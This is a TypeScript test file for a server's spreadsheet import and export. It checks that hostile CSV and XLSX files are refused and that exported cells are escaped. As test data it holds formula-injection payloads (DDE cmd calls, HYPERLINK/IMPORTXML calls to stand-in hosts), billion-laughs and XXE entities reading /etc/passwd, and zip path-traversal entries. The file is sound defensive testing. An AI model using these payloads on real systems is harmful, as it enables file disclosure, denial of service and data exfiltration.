// Hostile and malformed import files are refused cleanly: either before any job (an InputError on `file` with a
// stable reason, nothing recorded) or as a job that ends FAILED/PARTIAL with row errors naming the field and the
// reason, never an unmasked error, with nothing written for refused rows. Formula injection in any free-text
// column, huge cells, rows and sheets, XML attacks inside an XLSX, broken zips, broken CSV text. And every
// spreadsheet the server produces (the import error report, the report's XLSX and CSV) writes text that a
// spreadsheet would run as a formula escaped.
import ExcelJS from 'exceljs';
import { beforeAll, describe, expect, it } from 'vitest';
import { prisma } from '../../server/src/db/database.ts';
import { IMPORT_LIMITS } from '../../server/src/modules/import/import.limits.ts';
import { looksLikeFormula } from '../../server/src/modules/import/spreadsheet.ts';
import { yoga } from '../../server/src/yoga.ts';
import { userActor } from '../helpers/auth.ts';
import { useTestDatabase } from '../helpers/db.ts';
import { gql } from '../helpers/graphql.ts';
import { csvFile, IMPORT_INSPECTORS, IMPORT_TARGETS, importUscc, poolsScenario, rawXlsx, TARGET_HEADINGS, targetRow, upload, xlsxFile, zip } from '../fixtures/pools.ts';

useTestDatabase();
let s: Awaited<ReturnType<typeof poolsScenario>>;

beforeAll(async () => {
  s = await poolsScenario();
});

type Result = Awaited<ReturnType<typeof upload>>;
const ext = (r: Result) => r.errors?.[0]?.extensions ?? {};
let fileNo = 0;

/** Uploads a file; returns the result and the name it was sent under (to look for jobs by it). */
async function send(body: Buffer, ext_: 'xlsx' | 'csv', opts: { allOrNothing?: boolean } = {}) {
  const name = `hostile-${++fileNo}.${ext_}`;
  const r = await upload(IMPORT_TARGETS, { poolId: s.pools.scjgPool.id, allOrNothing: opts.allOrNothing ?? false }, { name, body }, s.actors.office.headers);
  return { r, name };
}

/** Refused before any job: BAD_USER_INPUT on `file` with this reason; no job recorded. */
async function refused(body: Buffer, kind: 'xlsx' | 'csv', reason: string) {
  const { r, name } = await send(body, kind);
  expect(ext(r), JSON.stringify(r.errors)).toMatchObject({ code: 'BAD_USER_INPUT', field: 'file', reason });
  expect(r.errors![0]!.extensions).toHaveProperty('messageZh');
  expect(r.errors![0]!.extensions).toHaveProperty('messageEn');
  expect(await prisma().importJob.count({ where: { fileName: name } })).toBe(0);
  return r;
}

/** A job that the file failed as a whole: FAILED, one row-0 error on `file` with this reason. */
async function failedJob(body: Buffer, kind: 'xlsx' | 'csv', reason: string) {
  const { r } = await send(body, kind);
  expect(r.errors, JSON.stringify(r.errors)).toBeUndefined();
  const job = r.data.importTargets;
  expect(job.status).toBe('FAILED');
  expect(job.errors.map((e: { rowNumber: number; field: string; reason: string }) => [e.rowNumber, e.field, e.reason])).toEqual([[0, 'file', reason]]);
  expect(job.message).not.toMatch(/\bat \w+ \(|Error:|stack/i);
  expect(await prisma().importFile.count({ where: { jobId: job.id } })).toBe(0);
  return job;
}

const esc = (v: string) => v.replace(/&/g, '&amp;').replace(/</g, '&lt;');
const COLS = 'ABCDEFGHI';
/** A sheet row of inline-string / number cells; `{ xml }` puts raw cell markup in. */
function sheetRow(r: number, values: readonly (string | number | null | { xml: string })[]): string {
  const cells = values.map((v, i) => {
    const ref = `${COLS[i]}${r}`;
    if (v === null) return '';
    if (typeof v === 'number') return `<c r="${ref}"><v>${v}</v></c>`;
    if (typeof v === 'object') return v.xml.replace('$REF', ref);
    return `<c r="${ref}" t="inlineStr"><is><t>${esc(v)}</t></is></c>`;
  });
  return `<row r="${r}">${cells.join('')}</row>`;
}
const header = sheetRow(1, TARGET_HEADINGS);
const rowsOf = (first: number, ns: number[]) => ns.map((n, i) => sheetRow(first + i, targetRow(n))).join('');

const XML_DECL = '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n';
const MAIN_NS = 'xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"';
/** An XLSX whose whole sheet part is the given text (after the XML declaration). */
const wholeSheet = (xml: string) => rawXlsx('', { data: Buffer.from(XML_DECL + xml, 'utf8') });

describe('formula injection', () => {
  it('a free-text cell a spreadsheet would run as a formula is a row error in any text column, also after leading blanks; phone numbers and negative numbers are data', async () => {
    const n0 = 600;
    const rows = [
      targetRow(n0 + 0, { name: '=1+1' }),
      targetRow(n0 + 1, { address: '@SUM(A1:A9)' }),
      targetRow(n0 + 2, { name: '+HYPERLINK("http://evil.example","点我")' }),
      targetRow(n0 + 3, { address: '-2+3' }),
      targetRow(n0 + 4, { name: "  =cmd|' /C calc'!A0" }),
      targetRow(n0 + 5, { address: '\t=1+1' }),
      targetRow(n0 + 6, { name: '\r\n=1+1' }),
      [...targetRow(n0 + 7).slice(0, 2), '-IMPORTXML(CONCAT("http://x/?",A1),"//a")', ...targetRow(n0 + 7).slice(3)],
      [...targetRow(n0 + 8).slice(0, 6), '=WEBSERVICE("http://x")', ...targetRow(n0 + 8).slice(7)],
      // data, not formulas
      targetRow(n0 + 9, { address: '+86 10 1234 5678' }),
      targetRow(n0 + 10, { address: '-12.5' }),
      targetRow(n0 + 11, { address: '-' }),
      targetRow(n0 + 12, { name: '海阳市=号公司', address: '凤城街道 1+1 号' }),
    ];
    const { r } = await send(csvFile([...TARGET_HEADINGS, '投诉举报次数'], rows.map((x, i) => [...x, i === 10 ? '-3' : ''])), 'csv');
    expect(r.errors, JSON.stringify(r.errors)).toBeUndefined();
    const job = r.data.importTargets;
    expect(job).toMatchObject({ status: 'PARTIAL', processedRows: 13, insertedRows: 3, errorRows: 10 });
    expect(job.errors.map((e: { rowNumber: number; field: string; reason: string }) => [e.rowNumber, e.field, e.reason])).toEqual([
      [2, 'name', 'FORMULA_NOT_ALLOWED'],
      [3, 'address', 'FORMULA_NOT_ALLOWED'],
      [4, 'name', 'FORMULA_NOT_ALLOWED'],
      [5, 'address', 'FORMULA_NOT_ALLOWED'],
      [6, 'name', 'FORMULA_NOT_ALLOWED'],
      [7, 'address', 'FORMULA_NOT_ALLOWED'],
      [8, 'name', 'FORMULA_NOT_ALLOWED'],
      [9, 'legalRepresentative', 'FORMULA_NOT_ALLOWED'],
      [10, 'businessScope', 'FORMULA_NOT_ALLOWED'],
      // a negative count is refused by its own rule, not as a formula
      [12, 'complaintCount', 'COUNT'],
    ]);
    expect(job.errors[0].message).toContain('名称：');
    expect(job.errors[0].message).toMatch(/公式.*\/.*formula/);
    // nothing of the refused rows was written
    expect(await prisma().target.count({ where: { uscc: { in: Array.from({ length: 9 }, (_, i) => importUscc(n0 + i)).concat(importUscc(n0 + 10)) } } })).toBe(0);
    expect((await prisma().target.findUniqueOrThrow({ where: { uscc: importUscc(n0 + 9) } })).address).toBe('+86 10 1234 5678');
    expect((await prisma().target.findUniqueOrThrow({ where: { uscc: importUscc(n0 + 11) } })).address).toBe('-');
    expect((await prisma().target.findUniqueOrThrow({ where: { uscc: importUscc(n0 + 12) } })).name).toBe('海阳市=号公司');
  });

  it('the rule itself', () => {
    for (const f of ['=A1', '@A1', '+A1', '-A1', '-2+3', ' \t\r\n=1', '\u3000=1', '\ufeff=1', '+cmd|"/c calc"!A1', '-(1)+A1']) expect(looksLikeFormula(f), JSON.stringify(f)).toBe(true);
    for (const d of ['+86 10 1234', '+86-10-1234-5678', '-12.5', '-1,234.50', '-', '--', '+', '(0535) 1234', 'a=b', '海阳 @ 市', '1+1']) expect(looksLikeFormula(d), JSON.stringify(d)).toBe(false);
  });

  it('inspectors: name, qualifications, expertise and phone are free text; "+86 …" phones import', async () => {
    const HEAD = ['姓名', '执法证号', '执法资格', '专业特长', '联系电话'];
    const body = csvFile(HEAD, [
      ['=张三', 'HX-1', '', '', ''],
      ['李四', 'HX-2', '@资格', '', ''],
      ['王五', 'HX-3', '', '+SUM(1)', ''],
      ['赵六', 'HX-4', '', '', '=1+1'],
      ['钱七', 'HX-5', '', '', '+86 535 1234 567'],
    ]);
    const r = await upload(IMPORT_INSPECTORS, { poolId: s.pools.scjgInspectors.id, allOrNothing: false }, { name: 'hostile-inspectors.csv', body }, s.actors.office.headers);
    expect(r.errors).toBeUndefined();
    expect(r.data.importInspectors).toMatchObject({ status: 'PARTIAL', insertedRows: 1, errorRows: 4 });
    expect(r.data.importInspectors.errors.map((e: { field: string; reason: string }) => [e.field, e.reason])).toEqual([
      ['name', 'FORMULA_NOT_ALLOWED'],
      ['qualifications', 'FORMULA_NOT_ALLOWED'],
      ['expertiseTags', 'FORMULA_NOT_ALLOWED'],
      ['phone', 'FORMULA_NOT_ALLOWED'],
    ]);
    expect(await prisma().inspector.findUniqueOrThrow({ where: { certificateNo: 'HX-5' } })).toMatchObject({ phone: '+86 535 1234 567' });
  });

  it('XLSX formula cells: the cached value is the data (checked like typed text); a formula without one reads as empty', async () => {
    const n0 = 650;
    const f = (formula: string, cached: string | null) => ({ xml: `<c r="$REF" t="str"><f>${esc(formula)}</f>${cached === null ? '' : `<v>${esc(cached)}</v>`}</c>` });
    const body = rawXlsx(
      header +
        sheetRow(2, [importUscc(n0), f('HYPERLINK("http://evil.example","海阳市公式一号公司")', '海阳市公式一号公司'), ...targetRow(n0).slice(2)]) +
        sheetRow(3, [importUscc(n0 + 1), f('"="&"1+1"', '=1+1'), ...targetRow(n0 + 1).slice(2)]) +
        sheetRow(4, [importUscc(n0 + 2), f('A1', null), ...targetRow(n0 + 2).slice(2)]) +
        sheetRow(5, [{ xml: `<c r="$REF" t="str"><f>"${importUscc(n0 + 3)}"</f><v>${importUscc(n0 + 3)}</v></c>` }, ...targetRow(n0 + 3).slice(1)]),
    );
    const { r } = await send(body, 'xlsx');
    expect(r.errors).toBeUndefined();
    const job = r.data.importTargets;
    expect(job).toMatchObject({ status: 'PARTIAL', insertedRows: 2, errorRows: 2 });
    expect(job.errors.map((e: { rowNumber: number; field: string; reason: string }) => [e.rowNumber, e.field, e.reason])).toEqual([
      [3, 'name', 'FORMULA_NOT_ALLOWED'],
      [4, 'name', 'REQUIRED'],
    ]);
    expect((await prisma().target.findUniqueOrThrow({ where: { uscc: importUscc(n0) } })).name).toBe('海阳市公式一号公司');
    expect(await prisma().target.count({ where: { uscc: importUscc(n0 + 3) } })).toBe(1);
  });
});

describe('huge cells, rows and sheets', () => {
  it('a cell of 32,768 characters is a row error (CSV and XLSX); the other rows import', async () => {
    const long = '经'.repeat(IMPORT_LIMITS.maxCellChars + 1);
    const csv = await send(csvFile(TARGET_HEADINGS, [targetRow(700, { address: long }), targetRow(701)]), 'csv');
    expect(csv.r.data.importTargets).toMatchObject({ status: 'PARTIAL', insertedRows: 1, errorRows: 1 });
    expect(csv.r.data.importTargets.errors[0]).toMatchObject({ rowNumber: 2, field: 'address', reason: 'CELL_TOO_LONG' });
    const xlsx = await send(await xlsxFile(TARGET_HEADINGS, [targetRow(702, { name: long }), targetRow(703)]), 'xlsx');
    expect(xlsx.r.data.importTargets).toMatchObject({ status: 'PARTIAL', insertedRows: 1, errorRows: 1 });
    expect(xlsx.r.data.importTargets.errors[0]).toMatchObject({ rowNumber: 2, field: 'name', reason: 'CELL_TOO_LONG' });
    // the report quotes the row cut short, not the 32,768 characters
    expect((xlsx.r.data.importTargets.errors[0].raw as [string, string][]).find(([h]) => h === '名称')![1]).toHaveLength(500);
    expect(await prisma().target.count({ where: { uscc: { in: [importUscc(700), importUscc(702)] } } })).toBe(0);
  });

  it('a 50 MB line without a newline is refused by size; a 19 MiB one stops at the row limit, before any job', async () => {
    const form = new FormData();
    form.set('operations', JSON.stringify({ query: IMPORT_TARGETS, variables: { poolId: s.pools.scjgPool.id, allOrNothing: false, file: null } }));
    form.set('map', JSON.stringify({ 0: ['variables.file'] }));
    form.set('0', new Blob([new Uint8Array(50 * 1024 * 1024).fill(0x41)]), 'fifty.csv');
    const encoded = new Response(form);
    const body = Buffer.from(await encoded.arrayBuffer());
    const headers = { ...s.actors.office.headers, 'x-graphql-yoga-csrf': '1', 'content-type': encoded.headers.get('content-type')! };
    // as browsers and fetch send it (with its length): the edge refuses it before reading it
    const sized = await yoga.fetch('http://localhost/graphql', { method: 'POST', headers: { ...headers, 'content-length': String(body.length) }, body });
    expect(sized.status).toBe(413);
    expect(((await sized.json()) as Result).errors![0]!.extensions).toMatchObject({ code: 'PAYLOAD_TOO_LARGE' });
    // streamed without a length: Yoga's own body limit stops reading at 25 MB
    const streamed = await yoga.fetch('http://localhost/graphql', { method: 'POST', headers, body: new Blob([body]).stream(), duplex: 'half' } as RequestInit);
    expect(streamed.status).toBe(400);
    expect(((await streamed.json()) as Result).errors![0]).toMatchObject({ message: expect.stringContaining('too large'), extensions: { code: 'BAD_REQUEST' } });
    expect(await prisma().importJob.count({ where: { fileName: 'fifty.csv' } })).toBe(0);
    const line = Buffer.concat([Buffer.from(TARGET_HEADINGS.join(',') + '\n'), Buffer.alloc(19 * 1024 * 1024, 0x41)]);
    await refused(line, 'csv', 'ROW_TOO_LARGE');
  });

  it('16,384 columns: refused before any job in a CSV; an XLSX cell in column XFD fails the job', async () => {
    const wide = [...TARGET_HEADINGS, ...Array.from({ length: 16_384 - TARGET_HEADINGS.length }, (_, i) => `列${i}`)];
    await refused(csvFile(wide, [targetRow(710)]), 'csv', 'TOO_MANY_COLUMNS');
    await failedJob(rawXlsx(header + sheetRow(2, targetRow(711)).replace('</row>', '<c r="XFD2"><v>1</v></c></row>')), 'xlsx', 'TOO_MANY_COLUMNS');
    expect(await prisma().target.count({ where: { uscc: { in: [importUscc(710), importUscc(711)] } } })).toBe(0);
  });

  it('1,000,000 blank rows before the data (CSV lines, XLSX rows) are skipped; the row numbers stay the sheet\'s', async () => {
    const data = Buffer.from(`${targetRow(720).join(',')}\n${targetRow(722, { industry: 'X' }).join(',')}\n`);
    const csv = Buffer.concat([Buffer.from(TARGET_HEADINGS.join(',') + '\n'), Buffer.alloc(1_000_000, 0x0a), data]);
    const c = await send(csv, 'csv');
    expect(c.r.data.importTargets).toMatchObject({ status: 'PARTIAL', processedRows: 2, insertedRows: 1 });
    expect(c.r.data.importTargets.errors.map((e: { rowNumber: number }) => e.rowNumber)).toEqual([1_000_003]);
    const blank = Array.from({ length: 1_000_000 }, (_, i) => `<row r="${i + 2}"/>`).join('');
    const x = await send(rawXlsx(header + blank + sheetRow(1_000_002, targetRow(721)) + sheetRow(1_000_003, targetRow(723, { industry: 'X' }))), 'xlsx');
    expect(x.r.data.importTargets).toMatchObject({ status: 'PARTIAL', processedRows: 2, insertedRows: 1 });
    expect(x.r.data.importTargets.errors.map((e: { rowNumber: number }) => e.rowNumber)).toEqual([1_000_003]);
  });

  it('row numbers: up to Excel\'s 1,048,576 read as written; beyond it, or going backwards, the file is corrupt', async () => {
    const last = await send(rawXlsx(header + sheetRow(1_048_576, targetRow(730, { industry: 'X' }))), 'xlsx');
    expect(last.r.data.importTargets.errors.map((e: { rowNumber: number; reason: string }) => [e.rowNumber, e.reason])).toEqual([[1_048_576, 'INDUSTRY_CODE']]);
    await failedJob(rawXlsx(header + sheetRow(2, targetRow(731)) + sheetRow(1_048_577, targetRow(732))), 'xlsx', 'FILE_CORRUPT');
    await failedJob(rawXlsx(header + rowsOf(2, [733]).replace('r="2"', 'r="99999999999999"')), 'xlsx', 'FILE_CORRUPT');
    await failedJob(rawXlsx(header + sheetRow(5, targetRow(734)) + sheetRow(3, targetRow(735))), 'xlsx', 'FILE_CORRUPT');
  });

  it('an absurd <dimension> is ignored', async () => {
    const body = wholeSheet(`<worksheet ${MAIN_NS}><dimension ref="A1:XFD1048576"/><sheetData>${header}${rowsOf(2, [740, 741])}</sheetData></worksheet>`);
    const { r } = await send(body, 'xlsx');
    expect(r.data.importTargets).toMatchObject({ status: 'SUCCEEDED', totalRows: 2, insertedRows: 2 });
  });
});

describe('XML attacks and broken archives', () => {
  const laughs =
    '<!DOCTYPE lolz [<!ENTITY lol "lol"><!ENTITY lol1 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">' +
    Array.from({ length: 8 }, (_, i) => `<!ENTITY lol${i + 2} "${`&lol${i + 1};`.repeat(10)}">`).join('') +
    ']>';

  it('DOCTYPE / ENTITY declarations (billion laughs, external entities) in the sheet, the shared strings or the workbook: refused before any job', async () => {
    await refused(wholeSheet(`${laughs}<worksheet ${MAIN_NS}><sheetData>${header}${sheetRow(2, ['&lol9;', ...targetRow(750).slice(1)])}</sheetData></worksheet>`.replace('&amp;lol9;', '&lol9;')), 'xlsx', 'XML_DTD');
    const xxe = '<!DOCTYPE sst [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>';
    const shared = zip([
      { name: 'xl/workbook.xml', data: Buffer.from(`${XML_DECL}<workbook ${MAIN_NS} xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"><sheets><sheet name="S" sheetId="1" r:id="rId1"/></sheets></workbook>`) },
      {
        name: 'xl/_rels/workbook.xml.rels',
        data: Buffer.from(
          `${XML_DECL}<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="worksheet" Target="worksheets/sheet1.xml"/><Relationship Id="rId2" Type="sharedStrings" Target="sharedStrings.xml"/></Relationships>`,
        ),
      },
      { name: 'xl/sharedStrings.xml', data: Buffer.from(`${XML_DECL}${xxe}<sst ${MAIN_NS}><si><t>&xxe;</t></si></sst>`) },
      { name: 'xl/worksheets/sheet1.xml', data: Buffer.from(`${XML_DECL}<worksheet ${MAIN_NS}><sheetData>${header}<row r="2"><c r="A2" t="s"><v>0</v></c></row></sheetData></worksheet>`) },
    ]);
    await refused(shared, 'xlsx', 'XML_DTD');
    const workbook = zip([
      { name: 'xl/workbook.xml', data: Buffer.from(`${XML_DECL}${laughs}<workbook ${MAIN_NS}><sheets><sheet name="&lol9;" sheetId="1"/></sheets></workbook>`) },
      { name: 'xl/worksheets/sheet1.xml', data: Buffer.from(`${XML_DECL}<worksheet ${MAIN_NS}><sheetData>${header}</sheetData></worksheet>`) },
    ]);
    await refused(workbook, 'xlsx', 'XML_DTD');
  });

  it('an undeclared entity stays text; character references beyond Unicode fail the job; NUL and half surrogates are row errors', async () => {
    const raw = (xml: string) => ({ xml: `<c r="$REF" t="inlineStr"><is><t>${xml}</t></is></c>` });
    const { r } = await send(
      rawXlsx(
        header +
          sheetRow(2, [importUscc(760), raw('海阳市&amp;lol9;公司'), ...targetRow(760).slice(2)]) +
          sheetRow(3, [importUscc(761), raw('海阳市&#0;公司'), ...targetRow(761).slice(2)]) +
          sheetRow(4, [importUscc(762), raw('海阳市&#xD800;公司'), ...targetRow(762).slice(2)]) +
          sheetRow(5, [importUscc(763), raw('海阳市_x0000_公司'), ...targetRow(763).slice(2)]),
      ),
      'xlsx',
    );
    const job = r.data.importTargets;
    expect(job).toMatchObject({ status: 'PARTIAL', insertedRows: 1, errorRows: 3 });
    expect(job.errors.map((e: { rowNumber: number; field: string; reason: string }) => [e.rowNumber, e.field, e.reason])).toEqual([
      [3, 'name', 'INVALID_CHARACTER'],
      [4, 'name', 'INVALID_CHARACTER'],
      [5, 'name', 'INVALID_CHARACTER'],
    ]);
    // the refused value is quoted back with U+FFFD in place of what cannot be stored
    expect(job.errors[0].raw).toContainEqual(['名称', '海阳市\ufffd公司']);
    expect((await prisma().target.findUniqueOrThrow({ where: { uscc: importUscc(760) } })).name).toBe('海阳市&lol9;公司');
    await failedJob(rawXlsx(header + sheetRow(2, [importUscc(764), raw('&#x110000;'), ...targetRow(764).slice(2)])), 'xlsx', 'FILE_CORRUPT');
  });

  it('malformed and truncated XML', async () => {
    // the sheet stops in the middle of a row: refused when it is counted, before any job
    const full = `<worksheet ${MAIN_NS}><sheetData>${header}${rowsOf(2, [770, 771])}</sheetData></worksheet>`;
    await refused(wholeSheet(full.slice(0, full.indexOf('<row r="3"') + 30)), 'xlsx', 'FILE_CORRUPT');
    await refused(wholeSheet(full.replace('</sheetData></worksheet>', '')), 'xlsx', 'FILE_CORRUPT');
    // an unclosed cell, an unclosed row, a shared string that does not exist: the job fails
    await failedJob(rawXlsx(header + rowsOf(2, [772]).replace('</c></row>', '</row>')), 'xlsx', 'FILE_CORRUPT');
    await failedJob(rawXlsx(header + rowsOf(2, [773, 774]).replace('</row><row r="3">', '<row r="3">')), 'xlsx', 'FILE_CORRUPT');
    await failedJob(rawXlsx(header + '<row r="2"><c r="A2" t="s"><v>7</v></c></row>'), 'xlsx', 'FILE_CORRUPT');
    expect(await prisma().target.count({ where: { uscc: { in: [770, 771, 772, 773, 774].map((n) => importUscc(n)) } } })).toBe(0);
  });

  it('a truncated zip, a corrupt deflate stream, a CRC-32 that does not match, an entry named ../, duplicate entries: refused before any job', async () => {
    const good = rawXlsx(header + rowsOf(2, [780]));
    await refused(good.subarray(0, Math.floor(good.length / 2)), 'xlsx', 'FILE_CORRUPT');
    // flip bytes inside the sheet's deflate stream (the last entry's data, just before the central directory)
    const cdOffset = good.readUInt32LE(good.length - 6);
    const corrupt = Buffer.from(good);
    for (let i = cdOffset - 40; i < cdOffset - 20; i++) corrupt[i] = corrupt[i]! ^ 0x5a;
    await refused(corrupt, 'xlsx', 'FILE_CORRUPT');
    // the sheet inflates fine but is not what the archive recorded (its CRC-32 in the central directory differs)
    const badCrc = Buffer.from(good);
    let entry = cdOffset;
    for (let k = 0; k < 3; k++) entry += 46 + badCrc.readUInt16LE(entry + 28) + badCrc.readUInt16LE(entry + 30) + badCrc.readUInt16LE(entry + 32);
    expect(badCrc.toString('utf8', entry + 46, entry + 46 + badCrc.readUInt16LE(entry + 28))).toBe('xl/worksheets/sheet1.xml');
    badCrc.writeUInt32LE(badCrc.readUInt32LE(entry + 16) ^ 1, entry + 16);
    await refused(badCrc, 'xlsx', 'FILE_CORRUPT');
    const sheetXml = Buffer.from(`${XML_DECL}<worksheet ${MAIN_NS}><sheetData>${header}</sheetData></worksheet>`);
    const parts = (sheetName: string, extra: { name: string; data: Buffer }[] = []) => [
      { name: 'xl/workbook.xml', data: Buffer.from(`${XML_DECL}<workbook ${MAIN_NS}><sheets><sheet name="S" sheetId="1"/></sheets></workbook>`) },
      { name: sheetName, data: sheetXml },
      ...extra,
    ];
    await refused(zip(parts('xl/worksheets/sheet1.xml', [{ name: '../../evil.xml', data: sheetXml }])), 'xlsx', 'FILE_CORRUPT');
    await refused(zip(parts('xl/worksheets/sheet1.xml', [{ name: '/etc/evil.xml', data: sheetXml }])), 'xlsx', 'FILE_CORRUPT');
    await refused(zip(parts('xl/worksheets/sheet1.xml', [{ name: 'xl\\worksheets\\sheet2.xml', data: sheetXml }])), 'xlsx', 'FILE_CORRUPT');
    const other = Buffer.from(`${XML_DECL}<worksheet ${MAIN_NS}><sheetData>${header}${rowsOf(2, [781])}</sheetData></worksheet>`);
    await refused(zip(parts('xl/worksheets/sheet1.xml', [{ name: 'xl/worksheets/sheet1.xml', data: other }])), 'xlsx', 'FILE_CORRUPT');
    await refused(zip(parts('xl/worksheets/sheet1.xml', [{ name: 'XL/Worksheets/Sheet1.xml', data: other }])), 'xlsx', 'FILE_CORRUPT');
    expect(await prisma().target.count({ where: { uscc: { in: [importUscc(780), importUscc(781)] } } })).toBe(0);
  });
});

describe('CSV text', () => {
  it('invalid UTF-8 that is not GB 18030 either, NUL bytes, binary garbage, unbalanced quotes, only a BOM: refused before any job', async () => {
    await refused(Buffer.concat([Buffer.from(TARGET_HEADINGS.join(',') + '\n'), Buffer.from([0xff, 0xfe, 0xfd, 0x80, 0x0a])]), 'csv', 'FILE_ENCODING');
    await refused(Buffer.concat([Buffer.from(TARGET_HEADINGS.join(',') + '\n' + targetRow(790).join(',') + '\n'), Buffer.from([0x00, 0x41])]), 'csv', 'FILE_TYPE');
    const bigHead = Buffer.from(`${TARGET_HEADINGS.join(',')}\n${`${targetRow(791).join(',')}\n`.repeat(100)}`);
    await refused(Buffer.concat([bigHead, Buffer.from([0x41, 0x00, 0x42])]), 'csv', 'FILE_TYPE'); // NUL after the first 4 KiB
    let x = 7;
    const garbage = Buffer.from(Array.from({ length: 64 * 1024 }, () => ((x = (x * 1103515245 + 12345) >>> 0), ((x >>> 16) & 0x7f) | 0x80)));
    await refused(garbage, 'csv', 'FILE_ENCODING');
    const unbalanced = Buffer.from(`${TARGET_HEADINGS.join(',')}\n${targetRow(792).join(',')}\n${importUscc(793)},"海阳市引号公司,张,地址,370687,C1391,,企业,A\n${targetRow(794).join(',')}\n`);
    const r = await refused(unbalanced, 'csv', 'CSV_SYNTAX');
    expect(r.errors![0]!.extensions!.messageZh).toMatch(/第 \d+ 行/);
    await refused(Buffer.from([0xef, 0xbb, 0xbf]), 'csv', 'FILE_EMPTY');
    await refused(Buffer.from([0xef, 0xbb, 0xbf, 0x0d, 0x0a, 0x20, 0x0a]), 'csv', 'FILE_EMPTY');
    expect(await prisma().target.count({ where: { uscc: { in: [790, 791, 792, 793, 794].map((n) => importUscc(n)) } } })).toBe(0);
  });
});

// ───────────────────────── exports ─────────────────────────

/** RFC 4180 fields of a CSV text (quotes, doubled quotes, line breaks inside quotes). */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let field = '';
  let quoted = false;
  for (let i = 0; i < text.length; i++) {
    const c = text[i]!;
    if (quoted) {
      if (c === '"' && text[i + 1] === '"') (field += '"'), i++;
      else if (c === '"') quoted = false;
      else field += c;
    } else if (c === '"') quoted = true;
    else if (c === ',') row.push(field), (field = '');
    else if (c === '\r' && text[i + 1] === '\n') {
      row.push(field), rows.push(row), (row = []), (field = ''), i++;
    } else field += c;
  }
  if (field || row.length) row.push(field), rows.push(row);
  return rows;
}

const HOSTILE = ['=HYPERLINK("http://evil.example","x")', '+SUM(1)', '-2+3', '@cmd', '\t=1+1', '\r=1+1', ' =1+1', '-5'];

/** Text a spreadsheet could run: starts with tab or CR, or (after blanks) with = + - @. */
const RUNNABLE = /^(?:[\t\r]|\s*[=+\-@])/;

/**
 * Each hostile text is present with the leading apostrophe and never bare, and no other cell is runnable either.
 * XLSX read back turns a CR into LF (XML line-end normalisation), so `normalise` maps the expectations the same way.
 */
function expectEscaped(cells: string[], label: string, values: readonly string[] = HOSTILE, normalise = (v: string) => v) {
  for (const h of values.map(normalise)) {
    expect(cells, `${label}: ${JSON.stringify(h)} is present, escaped`).toContain(`'${h}`);
    expect(cells, `${label}: ${JSON.stringify(h)} is never written bare`).not.toContain(h);
  }
  for (const c of cells) expect(RUNNABLE.test(c), `${label}: ${JSON.stringify(c)}`).toBe(false);
}
const crToLf = (v: string) => v.replace(/\r/g, '\n');

describe('exports escape formulas', () => {
  it('the import error report quotes refused rows (every column) escaped', async () => {
    // every row is refused (a formula, or for the plain "-5" a bad industry code), so every row is quoted back
    const rows = HOSTILE.map((h, i) => [importUscc(800 + i), h, h, h, '370687', h === '-5' ? 'X' : 'C1391', h, '企业', 'A']);
    const { r } = await send(csvFile([...TARGET_HEADINGS], rows), 'csv');
    const job = r.data.importTargets;
    expect(job).toMatchObject({ errorRows: HOSTILE.length, insertedRows: 0 });
    const rep = await gql(`query($id: ID!) { importErrorReport(jobId: $id) { base64 } }`, { id: job.id }, s.actors.office.headers);
    const wb = new ExcelJS.Workbook();
    await wb.xlsx.load(Buffer.from(rep.data.importErrorReport.base64, 'base64') as never);
    const cells: string[] = [];
    wb.worksheets[0]!.eachRow((row) => row.eachCell((c) => typeof c.value === 'string' && cells.push(c.value)));
    // the import quotes cells trimmed (so "\t=1+1" is quoted as "=1+1"); "-5" is data for the import but is still
    // escaped wherever it is written
    expectEscaped(cells, 'error report', ['=HYPERLINK("http://evil.example","x")', '+SUM(1)', '-2+3', '@cmd', '=1+1', '-5']);
  });

  it('the report XLSX and CSV write department names (and every other text) escaped', async () => {
    for (const [i, h] of HOSTILE.entries()) await prisma().department.create({ data: { code: `HX${i}`, name: h, shortName: h, sortOrder: 900 + i } });
    const office = (await userActor('OFFICE_ADMIN', s.departments.scjg.id)).headers;
    const get = (path: string) => yoga.fetch(`http://localhost${path}`, { headers: office });
    const xlsx = await get('/export/report.xlsx?year=2025');
    expect(xlsx.status).toBe(200);
    const wb = new ExcelJS.Workbook();
    await wb.xlsx.load(Buffer.from(await xlsx.arrayBuffer()) as never);
    const cells: string[] = [];
    for (const ws of wb.worksheets) ws.eachRow((row) => row.eachCell((c) => typeof c.value === 'string' && cells.push(c.value)));
    expectEscaped(cells, 'report.xlsx', HOSTILE, crToLf);

    const csv = await get('/export/report.csv?year=2025');
    expect(csv.status).toBe(200);
    const fields = parseCsv((await csv.text()).replace(/^\uFEFF/, '')).flat();
    // numbers are written as numbers (a negative change is not text); every text field is checked
    expectEscaped(fields.filter((f) => f === '' || Number.isNaN(Number(f))), 'report.csv');
  });
});
